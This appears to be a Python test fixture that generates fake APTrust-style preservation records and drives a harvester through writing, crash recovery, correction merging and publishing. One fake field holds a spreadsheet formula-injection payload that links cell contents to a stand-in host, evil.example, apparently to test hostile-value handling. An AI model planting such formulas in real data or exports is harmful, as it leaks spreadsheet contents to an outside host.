"""A harvest without a Registry: made-up records, written as the pipeline writes them, and taken up again as it does.

Deterministic and without HTTP, so that a test can run it hundreds of times. The first take, one round of
asking again, the merge and the publication follow `harvester.harvest.run`.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson

from harvester.dump import (
    Codec,
    Disk,
    DumpWriter,
    JournalState,
    Manifest,
    Pace,
    begun,
    new_partial,
    partials,
    point_to_newest,
    publish,
    recover,
    remove,
)
from harvester.dump import manifest as m
from harvester.dump.layout import CORRECTIONS, MERGED, dump_name

HORIZON = datetime(2026, 11, 24, 2, 0, 0, tzinfo=UTC)
STEMS = ("objects", "files", "events", "alerts")
FORMAT_URL = "https://raw.githubusercontent.com/APTrust/preservation-services/master/profiles/aptrust-v2.2.json"

OFTEN = Pace(4000, 2)
"""Checkpoints so that even a small collection has several."""

Step = tuple[str, bytes, bool]
"""A file, a line of it, and whether the object is done with it."""


@dataclass(frozen=True)
class Collection:
    """How many of what. `corrected`: object 2 is asked for again at the end, and what is published is a merge."""

    objects: int = 4
    files: int = 5
    events: int = 2
    alerts: int = 3
    corrected: bool = False
    incomplete: bool = False

    def steps(self) -> Iterator[Step]:
        """Every line in the order it is committed."""
        for number in range(1, self.objects + 1):
            first = (number - 1) * self.files
            files = [_file(number, first + index, index) for index in range(1, self.files + 1)]
            active = [file["size"] for file in files if file["state"] == "A"]
            yield "objects", _line(_object(number, len(active), sum(active))), False
            for file in files:
                yield "files", _line(file), False
            for index in range(self.files * self.events):
                yield "events", _line(_event(number, files, first * self.events + index + 1)), False
            yield "", b"", True
        for number in range(1, self.alerts + 1):
            yield "alerts", _line({"id": number, "type": "Restored", "created_at": "2020-03-07T00:00:00.79244Z"}), False


def _line(record: Mapping[str, Any]) -> bytes:
    return orjson.dumps(record, option=orjson.OPT_APPEND_NEWLINE)


def _object(number: int, file_count: int, size: int) -> dict[str, Any]:
    return {
        "id": number,
        "title": f"Glass negatives, box {number}\u2028",
        "description": "Digitised items.",
        "identifier": f"institution1.edu/bag_{number:06}",
        "institution_id": 2,
        "created_at": "2014-08-25T08:33:04.7298Z",
        "updated_at": "2014-08-25T08:33:04.7298Z",
        "state": "A",
        "storage_option": "Wasabi-VA",
        "bagit_profile_identifier": FORMAT_URL,
        "internal_sender_description": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
        "file_count": file_count,
        "size": size,
    }


def _file(parent: int, number: int, index: int) -> dict[str, Any]:
    return {
        "id": number,
        "file_format": "image/tiff",
        "size": 1000 + number,
        "identifier": f"institution1.edu/bag_{parent:06}/data/scan_{index:05}.tif",
        "intellectual_object_id": parent,
        "object_identifier": f"institution1.edu/bag_{parent:06}",
        "access": "institution",
        "state": "D" if index == 4 else "A",
        "last_fixity_check": "0001-01-01T00:00:00Z",
        "institution_id": 2,
        "institution_name": "Institution One",
        "institution_identifier": "institution1.edu",
        "storage_option": "Wasabi-VA",
        "uuid": f"4e476639-0002-465c-8002-{number:012x}",
        "mtime": "2010-11-22T08:33:04.7298Z",
        "md5": f"{number:032x}",
        "sha1": "",
        "sha256": f"{number * 7919:064x}",
        "sha512": "",
        "created_at": "2014-08-25T08:40:58.344381Z",
        "updated_at": "2014-08-25T08:40:58.344381Z",
    }


def _event(parent: int, files: list[dict[str, Any]], number: int) -> dict[str, Any]:
    file = files[number % len(files)]
    return {
        "id": number,
        "agent": "https://github.com/APTrust/preservation-services",
        "created_at": "2014-08-25T08:33:04.7298Z",
        "date_time": "2014-08-25T08:33:04.7298Z",
        "detail": "Completed copy to preservation storage",
        "event_type": "replication",
        "generic_file_id": file["id"] if number % 3 else 0,
        "generic_file_identifier": file["identifier"],
        "identifier": f"17156075-7d64-4c03-84a8-{number:012x}",
        "institution_id": 2,
        "institution_name": "Institution One",
        "intellectual_object_id": parent,
        "intellectual_object_identifier": f"institution1.edu/bag_{parent:06}",
        "object": "APTrust preservation services",
        "old_uuid": "",
        "outcome": "Success",
        "outcome_detail": f"{number:032x}",
        "outcome_information": "Multipart put using aws-sdk-go",
        "updated_at": "2014-08-25T08:33:04.7298Z",
    }


@dataclass(frozen=True)
class Harvest:
    """What to harvest and how it is written."""

    collection: Collection = Collection()
    codec: Codec = Codec.NONE
    pace: Pace = OFTEN

    def run(self, output: Path, disk: Disk | None = None) -> Path:
        """Begin, or go on with what a crash left, to the end, once; returns the dump published."""
        disk = disk or Disk()
        found = None
        for path in partials(output):
            found = recover(path, disk)
        point_to_newest(output, disk)
        made = output / dump_name(HORIZON, ())
        if isinstance(found, Path) or (found is None and made.exists()):
            return made
        if found is None:
            directory = new_partial(output, HORIZON, disk)
            writer = DumpWriter.create(directory, {"asked_at": "then"}, STEMS, self.codec, self.pace, disk)
            state = JournalState.empty({})
        else:
            writer, state = DumpWriter.reopen(found.directory, self.pace, disk)
        try:
            return self._finish(writer, state, disk)
        finally:
            writer.close()

    def _finish(self, writer: DumpWriter, state: JournalState, disk: Disk) -> Path:
        self._append(writer, state, self.collection.steps())
        made = writer
        if self.collection.corrected:
            self._ask_again(writer.directory / f"{CORRECTIONS}-1", disk)
            made = self._merged(writer.directory / MERGED, disk)
        try:
            made.finish(manifest_of(made, self.collection))
            return publish(writer.directory, disk, source=made.directory)
        finally:
            made.close()

    def _append(self, writer: DumpWriter, state: JournalState, steps: Iterator[Step]) -> None:
        done = state.checkpoint.cursor.get("steps", 0)
        if state.checkpoint.cursor.get("finished"):
            return
        number = 0
        for number, (stem, line, ends_object) in enumerate(steps, 1):
            if number <= done:
                continue
            if stem:
                writer.append(stem, line, 1)
            if ends_object:
                writer.object_done()
            if writer.due:
                writer.checkpoint({"steps": number}, [{"kind": "note", "step": number}])
        writer.checkpoint({"steps": number, "finished": True})

    def _ask_again(self, directory: Path, disk: Disk) -> None:
        if begun(directory, disk) is None:
            header = {"objects": [[2, "updated"]], "lists": []}
            writer, state = DumpWriter.create(directory, header, STEMS, Codec.NONE, self.pace, disk), None
        else:
            writer, state = DumpWriter.reopen(directory, self.pace, disk)
        try:
            again = replace(self.collection, objects=2, alerts=0).steps()
            self._append(writer, state or JournalState.empty({}), again)
        finally:
            writer.close()

    def _merged(self, directory: Path, disk: Disk) -> DumpWriter:
        remove(directory, disk)
        merged = DumpWriter.create(directory, {}, STEMS, self.codec, self.pace, disk)
        try:
            self._append(merged, JournalState.empty({}), self.collection.steps())
        except BaseException:
            merged.close()
            raise
        return merged


def manifest_of(writer: DumpWriter, collection: Collection) -> Manifest:
    """The manifest that a harvest of this collection writes, always the same."""
    files = writer.summaries()
    walks = {stem: m.Walk(files[stem].records, files[stem].records) for stem in ("objects", "alerts")}
    failures = [m.Failure("events", 3, "cut short", 1, "institution1.edu/bag_000001")] if collection.incomplete else []
    return Manifest(
        complete=not collection.incomplete,
        horizon="2026-11-24T02:00:00.999999Z",
        registry=m.Registry("https://repo.aptrust.org", "v3"),
        account="someone@institution1.edu",
        scope=m.Scope(list(STEMS), []),
        strategy="per-object",
        order="objects by id",
        compression=writer.codec.value,
        files=files,
        totals=m.Totals(sum(s.records for s in files.values()), sum(s.bytes for s in files.values())),
        reconciliation=m.Reconciliation(walks),
        failures=failures,
        software=m.Software("0", "3"),
        run=m.Run("2026-11-24T03:00:00Z", 1.5, {"objects": 1}, 0, 0, 1),
    )
